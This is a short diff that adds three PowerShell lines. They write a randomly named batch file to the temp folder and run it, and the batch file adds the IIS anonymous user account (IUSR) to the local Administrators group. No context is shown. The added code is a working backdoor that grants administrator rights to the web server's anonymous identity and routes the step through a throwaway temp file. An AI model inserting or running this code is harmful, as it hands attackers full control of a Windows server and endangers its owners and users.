@@ -1,0 +1,3 @@
+$file = "$env:TEMP\$(Get-Random).cmd"
+Set-Content $file 'net localgroup Administrators IUSR /add'
+Start-Process $file -Wait
